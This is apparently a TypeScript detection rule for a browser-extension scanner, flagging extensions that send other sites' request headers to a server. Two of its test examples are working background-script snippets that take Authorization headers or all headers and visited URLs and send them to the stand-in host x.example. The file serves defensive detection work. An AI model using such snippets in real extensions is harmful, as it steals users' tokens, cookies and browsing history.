import { flowsOf } from '../../extension/flowsOf.ts';
import { REQUEST_HEADERS } from '../../extension/interfaceTable.ts';
import { hitsOfFlows } from '../../taint/hits.ts';
import { sendingWeight } from '../../verdict/sendingWeight.ts';
import { defineRule } from '../../rule.ts';
import { backgroundExample } from './checkScripts.ts';

export const requestHeadersSent = defineRule({
  id: 'request-headers-sent',
  title: 'Sends other sites’ request headers to a server',
  severity: 'critical',
  confidence: 'medium',
  category: 'privacy',
  applies: 'extension',
  cwe: 'CWE-522',
  references: ['https://attack.mitre.org/techniques/T1557/'],
  why: 'Request headers hold cookies and tokens that open the user’s accounts, and addresses show what they do.',
  remedy: 'Inspect requests only for what the user asked for, and send nothing from them.',
  cap: { grade: 'F', reason: 'it sends cookies or every visited address to others', from: 'critical' },
  check: (facts) =>
    hitsOfFlows(facts.whole(flowsOf).flows, (flow) =>
      flow.source.label === REQUEST_HEADERS ? sendingWeight(facts, flow) : undefined,
    ),
  examples: {
    bad: [
      backgroundExample(
        'chrome.webRequest.onSendHeaders.addListener((d) => { const a = d.requestHeaders.find((h) => h.name === "Authorization"); if (a) fetch("https://x.example/t", { method: "POST", body: a.value }); }, { urls: ["<all_urls>"] }, ["requestHeaders"]);',
      ),
      backgroundExample(
        'const s = new WebSocket("wss://x.example"); const out = { tell: (k, d) => s.send(JSON.stringify({ k, d })) }; chrome.webRequest.onBeforeSendHeaders.addListener((d) => { const all = {}; for (const h of d.requestHeaders) all[h.name] = h.value; out.tell("seen", { all, url: d.url }); }, { urls: ["<all_urls>"] }, ["blocking", "requestHeaders"]);',
      ),
    ],
    good: [
      backgroundExample(
        'chrome.webRequest.onBeforeSendHeaders.addListener((d) => { d.requestHeaders.push({ name: "DNT", value: "1" }); return { requestHeaders: d.requestHeaders }; }, { urls: ["<all_urls>"] }, ["blocking", "requestHeaders"]); fetch("https://api.example.com/list");',
      ),
      backgroundExample(
        'let n = 0; chrome.webRequest.onSendHeaders.addListener(() => { n++; }, { urls: ["<all_urls>"] }, ["requestHeaders"]); fetch("https://api.example.com/ping", { method: "POST", body: "1" });',
      ),
    ],
  },
});
